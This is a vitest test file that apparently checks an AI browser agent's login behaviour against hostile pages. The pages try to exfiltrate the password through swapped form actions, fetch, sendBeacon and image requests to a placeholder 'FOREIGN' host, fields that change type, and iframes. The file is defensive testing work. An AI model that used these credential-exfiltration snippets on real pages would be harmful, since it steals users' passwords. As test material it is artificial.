/** Pages that would have a password go astray: it reaches its own field on its own site, or nobody. */
import { describe, expect, test } from 'vitest'
import { useBrowser, type Site } from '../support/browser.ts'

const stand = useBrowser()

const PASSWORD = 'hunter2-secret'
const LOG_IN = `Log in with username bob and password "${PASSWORD}"`

interface Outcome {
  /** What the site of the run was sent, decoded, one text a request. */
  own: string[]
  /** The same for the other site. */
  foreign: string[]
  /** What fields of other types than password hold in the end. */
  shown: string[]
  status: string
  reason: string
}

const inputs = (extra = ''): string =>
  `<label>User name <input id="u" name="u"></label>${extra}<label>Password <input id="p" type="password" name="p"></label>`
const form = (inside: string, attributes = 'action="/in"'): string =>
  `<title>Log in</title><h1>Log in</h1><form id="f" method="post" ${attributes}>${inside}<button id="go">Log in</button></form>`
const onName = (script: string): string =>
  `<script>u.addEventListener('input', () => { ${script} }, { once: true })</script>`

/** An answer to a form, which is remembered as text. */
function collect(into: string[], answer: string): Site[string] {
  return (request, body) => {
    into.push(decodeURIComponent(`${request.url} ${body}`.replaceAll('+', ' ')))
    return answer
  }
}

/** Logs in on a site of pages that may name the other site as `FOREIGN`. */
async function logIn(pages: Site, prompt = LOG_IN): Promise<Outcome> {
  const own: string[] = []
  const foreign: string[] = []
  const done = '<h1>Welcome</h1><a href="/out">Log out</a>'
  const other = await stand.open({
    '/': form(inputs(), 'action="/in"'),
    '/in': collect(foreign, done),
  })
  const named = Object.entries(pages).map(([path, page]): [string, Site[string]] => [
    path,
    typeof page === 'string' ? page.replaceAll('FOREIGN', other) : page,
  ])
  const url = await stand.open({ '/in': collect(own, done), ...Object.fromEntries(named) })
  const { result, log } = await stand.tell(prompt, { url })
  const reason = 'failureReason' in result ? result.failureReason : ''
  expect(`${log.join('\n')}${reason}`).not.toContain(PASSWORD)
  const shown = await stand
    .context()
    .pages()
    .at(-1)
    ?.locator('input:not([type=password])')
    .evaluateAll((fields) => fields.map((field) => (field as unknown as { value: string }).value))
  return { own, foreign, shown: shown ?? [], status: result.status, reason }
}

describe('a page that changes while the form is filled in', () => {
  test.each([
    [
      'a field that appears before the password',
      form(inputs('<label id="o" hidden>Organization <input name="org"></label>')) +
        onName('o.hidden = false'),
    ],
    [
      'a box that appears above the form',
      form(inputs()) +
        onName(`document.body.insertAdjacentHTML('afterbegin', '<label>Search <input></label>')`),
    ],
    [
      'a button that appears before the one to log in',
      form(inputs()) +
        onName(
          `go.insertAdjacentHTML('beforebegin', '<button type="button" onclick="this.form.action = \\'/gone\\'; p.type = \\'text\\'">Show</button>')`,
        ),
    ],
    [
      'a focus that is taken away',
      `${form(inputs('<label>Note <input id="n" name="n"></label>'))}<script>p.onfocus = () => n.focus()</script>`,
    ],
  ])('%s: the password is in its own field all the same', async (_, page) => {
    const { own, shown, status, reason } = await logIn({ '/': page })
    expect(reason).toBe('')
    expect(status).toBe('completed')
    expect(own.join()).toContain(`p=${PASSWORD}`)
    expect(own.join().replace(`p=${PASSWORD}`, '')).not.toContain(PASSWORD)
    expect(shown.join()).not.toContain(PASSWORD)
  })

  test.each([
    ['a password field that turns into a plain one', form(inputs()) + onName(`p.type = 'text'`)],
    [
      'one that does so while the password is entered',
      `${form(inputs())}<script>p.addEventListener('input', () => { p.type = 'text' })</script>`,
    ],
    [
      'a form that is replaced by another',
      form(inputs()) +
        onName(
          `f.innerHTML = '<label>Name <input name="u"></label><label>Pass phrase <input type="password" name="q"></label><button>Go</button>'`,
        ),
    ],
    [
      'a button that has become another',
      form(inputs()) + onName(`go.textContent = 'Send to everybody'`),
    ],
    [
      'a password field that moves into another form',
      `${form(inputs())}<form id="g" action="FOREIGN/in" method="post"></form>${onName('g.append(p.parentElement)')}`,
    ],
    [
      'a field that is emptied before the form is sent',
      `${form(inputs())}<script>p.addEventListener('change', () => setTimeout(() => { p.value = 'x' }))</script>`,
    ],
  ])('%s: nothing is submitted', async (_, page) => {
    const { own, foreign, shown, status, reason } = await logIn({ '/': page })
    expect({ status, own, foreign }).toEqual({ status: 'failed', own: [], foreign: [] })
    expect(reason).toMatch(/changed while|not a password field|holds something else|was not given/)
    expect(shown.join()).not.toContain(PASSWORD)
  })
})

describe('another site', () => {
  test.each<[string, Site]>([
    ['the form leads there', { '/': form(inputs(), 'action="FOREIGN/in"') }],
    [
      'the button leads there',
      { '/': form(inputs()).replace('<button', '<button formaction="FOREIGN/in"') },
    ],
    [
      'the form leads there, with a field called action',
      { '/': form(inputs('<input type="hidden" name="action" value="x">'), 'action="FOREIGN/in"') },
    ],
    [
      'the form leads there when it is submitted',
      { '/': form(inputs(), `onsubmit="this.action = 'FOREIGN/in'" action="/in"`) },
    ],
    [
      'a new window leads there when it is submitted',
      { '/': form(inputs(), `target="_blank" onsubmit="this.action = 'FOREIGN/in'" action="/in"`) },
    ],
    [
      'a GET leads there when it is submitted',
      {
        '/': form(
          inputs(),
          `onsubmit="this.method = 'get'; this.action = 'FOREIGN/in'" action="/in"`,
        ),
      },
    ],
    [
      'the answer leads there and takes the form along',
      { '/': form(inputs(), 'action="/moved"'), '/moved': 'Moved: FOREIGN/in' },
    ],
    [
      'a script sends it there',
      {
        '/': form(
          inputs(),
          `onsubmit="fetch('FOREIGN/in', { method: 'post', mode: 'no-cors', body: JSON.stringify({ p: p.value }) }); return false"`,
        ),
      },
    ],
    [
      'a beacon sends it there',
      {
        '/': form(inputs(), `onsubmit="navigator.sendBeacon('FOREIGN/in', p.value)" action="/in"`),
      },
    ],
    [
      'a script sends it there while it is entered',
      {
        '/': `${form(inputs())}<script>p.addEventListener('input', () => { new Image().src = 'FOREIGN/in?' + p.value })</script>`,
      },
    ],
    ['the address leads there', { '/': 'Location: FOREIGN/' }],
    ['a frame is there', { '/': '<iframe src="FOREIGN/" width="500" height="300"></iframe>' }],
  ])('%s: it gets no password', async (_, pages) => {
    const { foreign, status, reason } = await logIn(pages)
    expect(foreign.join()).not.toContain(PASSWORD)
    expect(status).toBe('failed')
    expect(reason).toMatch(/The password was not given to http:\/\/127\.0\.0\.1:\d+, which is not/)
  })
  test('the button leads there in an encoding that hides the letters of the password', async () => {
    const page = form(inputs(), 'accept-charset="windows-1252"')
    const { status, reason } = await logIn(
      { '/': page.replace('<button', '<button formaction="FOREIGN/in"') },
      'Log in with username bob and password "pässwört"',
    )
    expect(status).toBe('failed')
    expect(reason).toMatch(/The password was not given to http:\/\/127\.0\.0\.1:\d+, which is not/)
  })
})
